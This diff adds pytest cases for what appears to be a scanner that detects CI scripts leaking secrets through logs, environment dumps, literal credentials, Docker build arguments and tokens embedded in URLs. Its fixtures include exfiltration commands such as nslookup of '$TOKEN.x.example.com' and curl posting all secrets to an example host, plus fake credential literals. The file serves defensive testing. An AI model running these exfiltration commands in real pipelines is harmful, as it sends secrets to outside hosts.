@@ -208,3 +208,129 @@ def test_credentials_that_are_left_lying_are_seen(script: str) -> None:
 
 def test_pushing_with_a_token_leaves_none() -> None:
     assert details("persists-credentials", "git push https://x:$TOKEN@github.com/o/r main") == []
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        'cat "$TOKEN"',
+        "P=$(vault kv get -field=password secret/db)\necho $P",
+        "P=$(aws secretsmanager get-secret-value --secret-id x --query SecretString)\nprintf '%s' \"$P\"",
+        "printenv NPM_TOKEN",
+        'echo "$TOKEN" | base64\n[ -n "$TOKEN" ] || { echo no; exit 1; }',
+        'echo "$TOKEN" && date > now.txt',
+    ],
+)
+def test_a_secret_that_is_fetched_kept_or_named_is_seen_in_the_log(script: str) -> None:
+    assert len(details("secret-print", script)) == 1
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "U=$(vault kv get -field=username secret/db)\necho $U",
+        "printenv HOME",
+        'curl -F "token=$TOKEN" https://gitlab.example.com/api/v4/projects/9/trigger/pipeline',
+        'git clone "https://gitlab-ci-token:${CI_JOB_TOKEN}@gitlab.example.com/a/b.git"',
+    ],
+)
+def test_names_and_tokens_of_the_job_itself_are_fine(script: str) -> None:
+    kinds = {effect.kind for effect in effects(script, secrets=("TOKEN", "CI_JOB_TOKEN"))}
+
+    assert kinds.isdisjoint({"secret-print", "secret-send", "persists-credentials"})
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "mysql -h db.example.com -pk8Vq2Zx9Lm4T app",
+        "PGPASSWORD=k8Vq2Zx9Lm4T psql -h db.example.com",
+        "curl -H 'X-Api-Key: 7f3a9c2e8b1d4056a7c8e9f0b1a2c3d4' https://api.example.com",
+        "aws configure set aws_secret_access_key wJa1rXUtnF2EMIK7MDENGbPxRfiCYzQ9kLmNo3Pq",
+    ],
+)
+def test_a_credential_in_its_own_way_is_seen(script: str) -> None:
+    assert len(details("literal-credential", script)) == 1
+
+
+def test_a_listing_that_was_kept_and_then_shown_is_seen() -> None:
+    assert details("environment-dump", "env > env.txt\ncat env.txt") == ["cat"]
+    assert not details("environment-dump", "env > env.txt\ncat other.txt")
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        'set -x\ncurl -H "Authorization: Bearer $TOKEN" https://x.example.com',
+        "set -o xtrace\nmake\n./deploy ${{ secrets.TOKEN }}",
+        'curl -sv -H "Authorization: Bearer $TOKEN" https://x.example.com',
+        'for n in TOKEN OTHER; do echo "$n=${!n}"; done',
+        "printenv TOKEN | rev",
+        'echo "$TOKEN" > .env\ncat .env',
+        'echo "$TOKEN" >> "$GITHUB_STEP_SUMMARY"',
+    ],
+)
+def test_a_secret_that_reaches_the_log_by_the_way_is_seen(script: str) -> None:
+    assert len(details("secret-print", script)) == 1
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        'set -x\nmake\nset +x\ncurl -H "Authorization: Bearer $TOKEN" https://x.example.com',
+        "curl -v https://x.example.com",
+        'for n in A B; do echo "$n=${!n}"; done',
+        'echo "$TOKEN" > .env\ncat other.env',
+        'echo "$TOKEN" > t\ncat t | docker login --password-stdin -u x ghcr.io',
+        'echo "id $(echo "$TOKEN" | sha256sum | cut -c1-8)"',
+        "echo \"${{ secrets.TOKEN != '' }}\"",
+    ],
+)
+def test_what_shows_nothing_of_a_secret_is_fine(script: str) -> None:
+    assert details("secret-print", script) == []
+
+
+def test_a_traced_secret_is_not_said_twice() -> None:
+    assert details("debug", 'set -x\ndeploy "$TOKEN"') == []
+
+
+def test_names_of_variables_alone_are_no_dump() -> None:
+    assert details("environment-dump", "env | cut -d= -f1 | sort") == []
+    assert len(details("environment-dump", "env | cut -c1-20 | sort")) == 1
+
+
+def test_code_that_prints_a_secret_points_at_its_line() -> None:
+    script = "const a = 1;\ncore.info(process.env.TOKEN);\nconsole.log(`x ${{ secrets.OTHER }}`);\n"
+    found = [e for e in effects(script, "javascript") if e.kind == "secret-print"]
+
+    assert sorted(script[e.start : e.end] for e in found) == [
+        "console.log(`x ${{ secrets.OTHER }}`);",
+        "core.info(process.env.TOKEN);",
+    ]
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        'nslookup "$TOKEN.x.example.com"',
+        'curl --data @- https://x.example.com/in <<< "$TOKEN"',
+        "curl -d '${{ toJSON(secrets) }}' https://x.example.com/in",
+    ],
+)
+def test_a_secret_that_leaves_in_another_way_is_seen(script: str) -> None:
+    assert len(details("secret-send", script)) == 1
+
+
+def test_who_logs_in_with_a_secret_sends_it_to_no_stranger() -> None:
+    script = 'curl -d "grant_type=password&username=u&password=$TOKEN" https://x.example.com/oauth/token'
+    assert details("secret-send", script) == []
+    assert len(details("secret-send", 'curl -d "t=$TOKEN" https://x.example.com/auth')) == 1
+
+
+def test_a_secret_in_a_build_argument_stays_in_the_image() -> None:
+    assert details("secret-argument", 'docker build --build-arg "T=$TOKEN" .') == ["docker"]
+    assert details("secret-argument", "docker build --build-arg VERSION=1 .") == []
+
+
+def test_a_token_pasted_into_an_address_is_left_behind() -> None:
+    assert len(details("persists-credentials", "git clone https://x:${{ secrets.PAT }}@github.com/o/r.git")) == 1
